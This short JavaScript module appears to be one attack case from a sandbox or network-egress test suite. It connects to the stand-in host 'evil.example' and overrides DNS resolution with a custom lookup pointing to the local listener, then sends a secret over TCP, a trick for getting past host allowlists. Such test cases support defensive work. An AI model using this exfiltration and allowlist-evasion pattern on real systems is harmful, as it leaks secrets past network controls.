// Connects to an allowed-looking name with a custom lookup that maps it to the listener.
import net from 'node:net';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const lookup = (_host, options, cb) => (options && options.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4));
    const socket = net.connect({ host: 'evil.example', port: ctx.tcpPort, lookup }, () => socket.end(ctx.secret));
    socket.on('error', reject);
    socket.on('close', () => resolve('sent'));
  });
}
